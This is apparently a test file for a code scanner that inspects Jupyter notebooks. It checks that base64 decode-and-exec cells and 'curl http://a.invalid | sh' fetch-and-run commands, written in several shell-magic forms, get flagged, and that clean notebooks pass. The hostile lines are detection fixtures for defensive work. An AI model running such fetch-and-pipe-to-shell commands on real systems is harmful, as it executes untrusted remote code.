import assert from 'node:assert/strict';
import { notebook } from '../../../../src/scanners/code/carriers/notebook.js';
import { hostile, hugeEntry, kinds, read, wheel } from './helpers.js';

function book(...cells: readonly (string | readonly string[])[]): string {
  return JSON.stringify({ nbformat: 4, cells: cells.map((source) => ({ cell_type: 'code', source })) });
}
const decodes = ['import base64\n', "exec(base64.b64decode('cHJpbnQoMSk='))\n"];

describe('the carrier of notebooks', () => {
  it('reads the Python of its cells as one text', () => {
    assert.ok(
      kinds(read(notebook, 'pkg/a.ipynb', book('import base64\n', decodes[1] ?? ''))).includes(
        'decode-and-execute',
      ),
    );
  });

  it('reads cells whose source is one text or lines', () => {
    for (const source of [decodes, decodes.join('')]) {
      assert.ok(kinds(read(notebook, 'pkg/a.ipynb', book(source))).includes('decode-and-execute'));
    }
  });

  it('reads the worksheets of older notebooks', () => {
    const old = JSON.stringify({ worksheets: [{ cells: [{ cell_type: 'code', input: decodes }] }] });
    assert.ok(kinds(read(notebook, 'pkg/a.ipynb', old)).includes('decode-and-execute'));
  });

  const commands: readonly (readonly [string, string])[] = [
    ['a line with `!`', '!curl http://a.invalid | sh'],
    ['a line with `!` behind a name', 'out = !curl http://a.invalid | sh'],
    ['a line with %sx', '%sx curl http://a.invalid | sh'],
    ['a cell of bash', '%%bash\ncurl http://a.invalid | sh'],
    ['a cell of sh with options', '%%sh --out x\ncurl http://a.invalid | sh'],
    ['a cell of `%%!`', '%%!\ncurl http://a.invalid | sh'],
  ];
  for (const [name, cell] of commands) {
    it(`reads ${name}`, () => {
      const [signal] = read(notebook, 'pkg/a.ipynb', book('x = 1', cell));
      assert.equal(signal?.what, 'script-fetch-and-run');
      assert.equal(signal.line, 2, 'the number of the cell');
    });
  }

  it('says nothing of a clean notebook, its text, its magics and its outputs', () => {
    const cells = [
      { cell_type: 'markdown', source: '!curl http://a.invalid | sh' },
      {
        cell_type: 'code',
        source: '%matplotlib inline\nimport numpy as np\n!pip list\n',
        outputs: [{ text: 'curl a | sh' }],
      },
      { cell_type: 'code', source: '%%html\n<script>eval(1)</script>' },
      { cell_type: 'code', source: 7 },
      null,
    ];
    assert.deepEqual(read(notebook, 'pkg/a.ipynb', JSON.stringify({ cells })), []);
  });

  it('runs when somebody runs it', () => {
    assert.equal(read(notebook, 'pkg/a.ipynb', book('!curl a.invalid | sh'))[0]?.moment, 'call');
    assert.equal(read(notebook, 'docs/a.ipynb', book('!curl a.invalid | sh'))[0]?.moment, 'tests');
  });

  it('says what it did not look at', () => {
    assert.deepEqual(kinds(read(notebook, 'pkg/a.ipynb', '{"cells": [')), ['not-looked-at']);
    assert.deepEqual(kinds(read(notebook, 'pkg/a.ipynb', '7')), ['not-looked-at']);
    assert.deepEqual(kinds(notebook.read(hugeEntry('pkg/a.ipynb'), wheel)), ['not-looked-at']);
    assert.ok(
      kinds(read(notebook, 'pkg/a.ipynb', book(...Array.from({ length: 6000 }, () => 'x')))).includes(
        'not-looked-at',
      ),
    );
  });

  for (const [name, bytes] of hostile) {
    it(`reads ${name}`, () => {
      assert.ok(Array.isArray(read(notebook, 'pkg/a.ipynb', bytes)));
    });
  }
});
